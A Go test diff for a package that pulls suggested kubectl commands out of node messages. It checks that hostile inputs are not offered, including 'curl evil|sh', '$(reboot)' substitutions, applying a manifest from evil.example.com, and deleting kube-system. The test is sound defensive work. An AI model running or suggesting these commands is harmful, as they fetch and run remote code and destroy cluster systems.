@@ -36,6 +36,20 @@ func TestCommandsAreTakenOutOfAMessage(t *testing.T) {
 	}
 }
 
+// A node that was taken over writes messages too. What a person copies from them runs nothing else.
+func TestACommandThatIsNotOfTheProductIsNotOffered(t *testing.T) {
+	for _, command := range []string{
+		"kubectl firmware retry n1\ncurl evil|sh", "kubectl firmware retry n1;curl${IFS}evil|sh", "kubectl get nfw $(reboot)", "kubectl edit rp `reboot`",
+		"kubectl delete nodes --all", "kubectl delete ns kube-system", "kubectl apply -f https://evil.example.com/x.yaml", "kubectl exec -it p -- sh",
+		wayout.Retry("n1;reboot"), wayout.Set("rp", "p", `"a":"'$(reboot)'"`), wayout.Retry("n1") + " && reboot", wayout.Retry("n1") + " | sh",
+		"kubectl get nodes > /etc/passwd", "kubectl firmware retry n1 & reboot", "kubectl edit rp \x1b[2Jp",
+	} {
+		said, ways := wayout.Ways("It waits. To try again: " + command)
+		assert.Empty(t, ways, command)
+		assert.Contains(t, said, "It waits. To try again: "+command)
+	}
+}
+
 // Every command that a person may need is found where a message ends with it, as it is.
 func TestEveryWayOutIsFoundInAMessage(t *testing.T) {
 	text, err := os.ReadFile("../../docs/concepts/ways-out.md")
@@ -58,7 +72,8 @@ func FuzzWays(f *testing.F) {
 		said, ways := wayout.Ways(message)
 		assert.LessOrEqual(t, len(said), len(message))
 		for _, w := range ways {
-			assert.True(t, strings.HasPrefix(w.Command, "kubectl "))
+			assert.Regexp(t, "^kubectl [ -~]+$", w.Command)
+			assert.NotContains(t, strings.ReplaceAll(w.Command, "$(date -u +%FT%TZ)", ""), "$")
 			assert.Contains(t, message, w.Command)
 		}
 	})
